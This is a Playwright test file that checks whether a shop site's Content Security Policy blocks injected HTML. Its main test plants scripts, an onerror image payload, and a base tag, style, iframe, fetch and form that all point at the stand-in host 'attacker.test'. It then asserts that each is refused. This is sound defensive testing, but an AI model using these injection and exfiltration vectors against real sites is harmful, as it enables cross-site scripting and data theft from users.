import type { Page } from '@playwright/test'
import { expect, test } from './shop.ts'

/** Injects HTML into a page, as an attacker might. */
async function plant(page: Page): Promise<void> {
  await page.goto('/')
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.planted = true'
    document.body.append(script)
  })
}

test.describe('HTML injected into a page', () => {
  test.use({ provoked: [/Content Security Policy/] })

  /** What the browser reports as blocked on the page. */
  async function refusalsOf(page: Page): Promise<string[]> {
    const names = await page.evaluate(() => (window as unknown as { refusals: string[] }).refusals)
    return [...new Set(names)].toSorted()
  }

  test.beforeEach(async ({ page }) => {
    await page.addInitScript(() => {
      const refusals: string[] = []
      Object.assign(window, { refusals })
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refusals.push(effectiveDirective),
      )
    })
  })

  // Waits for pending reports before the page closes, so that none is missed.
  test.afterEach(async ({ page, violations }) => {
    await page.close()
    expect(violations.length).toBeGreaterThan(0)
    violations.length = 0
  })

  test('runs no scripts, loads no external ones, sends nothing out, and changes no URLs', async ({
    page,
  }) => {
    await plant(page)
    expect(await refusalsOf(page)).toEqual(['script-src-elem'])
    await page.evaluate(() => {
      const inline = document.createElement('div')
      inline.innerHTML = '<img src="data:," onerror="window.planted = true">'
      document.body.append(inline)
    })
    await expect.poll(() => refusalsOf(page)).toEqual(['script-src-attr', 'script-src-elem'])
    expect(await page.evaluate(() => 'planted' in window)).toBe(false)
    const isLoaded = await page.evaluate(
      () =>
        new Promise((answer) => {
          const script = document.createElement('script')
          script.onload = () => answer(true)
          script.onerror = () => answer(false)
          script.src = 'https://attacker.test/script.js'
          document.body.append(script)
        }),
    )
    expect(isLoaded).toBe(false)

    await page.goto('/login')
    await page.evaluate(async () => {
      const base = document.createElement('base')
      base.href = 'https://attacker.test/'
      const style = document.createElement('style')
      style.textContent = 'input { background: url(https://attacker.test/) }'
      const frame = document.createElement('iframe')
      frame.src = 'https://attacker.test/'
      document.body.append(base, style, frame)
      await fetch('https://attacker.test/').catch(() => null)
      const form = document.createElement('form')
      form.action = 'https://attacker.test/'
      document.body.append(form)
      form.submit()
    })
    await expect
      .poll(() => refusalsOf(page))
      .toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'style-src-elem'])
    expect(new URL(page.url()).pathname).toBe('/login')
  })
})

test('a violation of the policy fails a journey, in every window', async ({ browser }) => {
  test.fail()
  await plant(await (await browser.newContext()).newPage())
})

test('the page about the API has its own styles', { tag: '@long' }, async ({ page }) => {
  await page.goto('/api/docs')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Shop API')
  expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe(
    'rgb(250, 247, 242)',
  )
})
